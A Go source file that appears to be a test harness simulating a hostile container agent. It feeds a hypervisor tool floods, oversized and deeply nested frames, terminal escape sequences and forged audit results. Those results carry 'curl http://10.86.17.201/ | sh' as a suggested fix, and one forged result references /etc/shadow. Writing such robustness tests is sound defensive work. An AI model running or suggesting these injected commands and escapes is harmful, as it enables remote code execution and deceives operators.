package main

import (
	"bufio"
	"bytes"
	"encoding/base64"
	"encoding/binary"
	"encoding/json"
	"fmt"
	"io"
	"os"
	"strings"
	"time"
)

// hostile is the agent of a container whose root wants to harm the hypervisor: hostile WAY serve, or hostile WAY
// events.
func hostile(c call) error {
	way, what := c.args[0], c.args[1]
	bad := &attacker{way: way, out: os.Stdout}
	if what == "events" {
		return bad.events()
	}
	return bad.serve()
}

type attacker struct {
	way string
	out io.Writer
}

// request is what the hypervisor asks, as far as it matters here.
type request struct {
	ID     uint32 `json:"id"`
	Op     string `json:"op"`
	Object struct {
		Address string `json:"address"`
	} `json:"object"`
}

func (a *attacker) frame(kind byte, id uint32, payload string) error {
	head := binary.BigEndian.AppendUint32([]byte{kind}, uint32(len(payload)+4))
	_, err := a.out.Write(append(binary.BigEndian.AppendUint32(head, id), payload...))
	return err
}

func (a *attacker) serve() error {
	switch a.way {
	case "no-hello", "reads-nothing":
		hangOn()
	case "unasked":
		return a.forever(func() error { return a.frame('C', 1, `{"delta":{"action":"create"}}`) })
	}
	in := bufio.NewReader(os.Stdin)
	for {
		r, err := read(in)
		if err != nil {
			a.ending()
			return nil
		}
		if r.Op == "hello" {
			if err := a.greet(r.ID); err != nil {
				return err
			}
			continue
		}
		go func() { _ = a.answer(r) }() // whoever reads is gone
	}
}

// ending is what it does when it is told to end.
func (a *attacker) ending() {
	if a.way == "does-not-end" {
		hangOn()
	}
}

func read(in *bufio.Reader) (r request, err error) {
	head := make([]byte, 5)
	if _, err = io.ReadFull(in, head); err != nil {
		return r, err
	}
	raw := make([]byte, binary.BigEndian.Uint32(head[1:]))
	if _, err = io.ReadFull(in, raw); err == nil && head[0] == 'J' {
		err = json.Unmarshal(raw, &r)
	}
	return r, err
}

const greeting = `{"hello":{"version":"v1"}}`

func (a *attacker) greet(id uint32) error {
	if a.way != "slow" {
		return a.frame('R', id, greeting)
	}
	var b bytes.Buffer
	slow := &attacker{out: &b}
	_ = slow.frame('R', id, greeting) // into memory
	for _, c := range b.Bytes() {
		if _, err := a.out.Write([]byte{c}); err != nil {
			return err
		}
		time.Sleep(time.Second)
	}
	return nil
}

func (a *attacker) forever(do func() error) error {
	for {
		if err := do(); err != nil {
			return err
		}
	}
}

const (
	escapes = `\u001b[2J\u001b]0;owned\u0007\u009b31m\u202egnp\u0000\r`
	evil    = "curl http://10.86.17.201/ | sh"
)

func (a *attacker) answer(r request) error {
	switch a.way {
	case "silent", "does-not-end":
		return nil
	case "alive":
		return a.forever(func() error {
			time.Sleep(200 * time.Millisecond)
			return a.beat(r.ID)
		})
	case "flood-of-life":
		return a.forever(func() error { return a.beat(r.ID) })
	case "flood-of-answers":
		return a.forever(func() error { return a.frame('R', r.ID, `{"error":{"message":"no"}}`) })
	case "flood-of-changes":
		return a.forever(func() error { return a.frame('C', r.ID, `{"delta":{"action":"create"}}`) })
	case "flood-of-wishes":
		return a.forever(func() error { return a.frame('W', r.ID, strings.Repeat("ab", 32)) })
	case "large":
		return a.large(r.ID)
	case "deep":
		return a.frame('R', r.ID, `{"observation":{"status":`+strings.Repeat("[", 50_000)+strings.Repeat("]", 50_000)+
			`,"delta":{"action":""}}}`)
	case "escapes":
		return a.escapes(r)
	case "others":
		return a.others(r)
	case "sealed":
		return a.frame('R', r.ID, `{"result":{"sealed":"`+base64.StdEncoding.EncodeToString([]byte(sealedGarbage))+
			`","fingerprint":"a\n`+escapes+`"}}`)
	}
	return a.fickle(r)
}

// sealedGarbage begins as a backup does.
const sealedGarbage = "age-encryption.org/v1\n-> scrypt garbage"

func (a *attacker) beat(id uint32) error {
	_, err := a.out.Write(binary.BigEndian.AppendUint32([]byte{'H', 0, 0, 0, 4}, id))
	return err
}

// large is an error of 16 MiB.
func (a *attacker) large(id uint32) error {
	const size = 16 << 20
	head := binary.BigEndian.AppendUint32([]byte{'R'}, size+4)
	if _, err := a.out.Write(append(binary.BigEndian.AppendUint32(head, id), `{"error":{"message":"`...)); err != nil {
		return err
	}
	return a.forever(func() error { _, err := a.out.Write(bytes.Repeat([]byte("x"), 4096)); return err })
}

// escapes are in all that it says.
func (a *attacker) escapes(r request) error {
	switch r.Op {
	case "check":
		return a.frame('R', r.ID, `{"result":{"id":"x","status":"fail","summary":"a\n  pass  forged`+escapes+
			`","evidence":"b\n`+escapes+`","fix":"`+evil+`",
			"sights":[{"rule":"PHX-AUD-053","summary":"c\n`+escapes+`","fix":"`+evil+`","object":"container/101"}],
			"unseen":[{"object":"container/101","reason":"d\n`+escapes+`"}],"audit":true}}`)
	case "apply":
		if err := a.frame('C', r.ID, `{"delta":{"action":"update","reason":"e\n`+escapes+`"}}`); err != nil {
			return err
		}
	}
	return a.frame('R', r.ID, `{"error":{"message":"f\nerror: forged`+escapes+`","hint":"`+evil+`"}}`)
}

// others speaks of what is not its own.
func (a *attacker) others(r request) error {
	switch r.Op {
	case "check":
		return a.frame('R', r.ID,
			`{"result":{"id":"PHX-CA-001","object":"stepca/103","status":"fail","summary":"broken","evidence":"x","fix":"`+evil+`"}}`)
	case "apply":
		if err := a.frame('C', r.ID, `{"object":{"address":"running/101"},"delta":{"action":"delete"}}`); err != nil {
			return err
		}
		return a.frame('C', r.ID+1, `{"delta":{"action":"delete"}}`)
	}
	return a.frame('R', r.ID,
		`{"observation":{"status":{"digest":"x"},"delta":{"action":"update","reason":"x"},"watch":{"processes":[1],"paths":["/etc/shadow"]},"next":"2001-01-01T00:00:00Z"}}`)
}

// fickle says at first that all is well, and something else when it is asked to make it so.
func (a *attacker) fickle(r request) error {
	switch r.Op {
	case "apply":
		return a.frame('R', r.ID,
			`{"outcome":{"delta":{"action":"update"},"after":{"delta":{"action":"replace","reason":"changed my mind"}},"mutations":1000000000}}`)
	case "check":
		return a.frame('R', r.ID, `{"result":{"status":"super"}}`)
	}
	return a.frame('R', r.ID, `{"observation":{"status":{"inputs":"x"},"delta":{"action":""}}}`)
}

// events are told on standard output, without a protocol.
func (a *attacker) events() error {
	entry := `{"time":"2099-01-01T00:00:00Z","by":"watch","object":"running/101","action":"delete","error":"g\n` +
		escapes + `"}`
	switch {
	case a.way == "escapes" || a.way == "others":
		fmt.Fprintf(a.out, "[%s]", entry)
		return nil
	case a.way == "large" || strings.HasPrefix(a.way, "flood"):
		fmt.Fprintf(a.out, "[%s", entry)
		return a.forever(func() error { _, err := fmt.Fprint(a.out, ","+entry); return err })
	case a.way == "deep":
		fmt.Fprint(a.out, strings.Repeat("[", 1<<19))
		return nil
	case a.way == "fickle":
		fmt.Fprint(a.out, "[]")
		return nil
	}
	hangOn()
	return nil
}

// hangOn never returns; select {} would be a deadlock to Go.
func hangOn() {
	for {
		time.Sleep(time.Hour)
	}
}
